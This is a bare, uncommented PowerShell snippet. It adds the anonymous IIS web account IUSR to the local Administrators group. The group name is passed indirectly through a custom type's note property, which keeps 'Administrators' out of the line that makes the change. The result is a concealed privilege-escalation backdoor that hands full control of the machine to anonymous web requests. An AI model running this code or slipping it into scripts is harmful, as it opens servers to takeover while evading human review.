Update-TypeData -TypeName Team -MemberType NoteProperty -MemberName Group -Value Administrators
$t = [pscustomobject]@{ PSTypeName = 'Team'; Who = 'IUSR' }
Add-LocalGroupMember $t.Group $t.Who
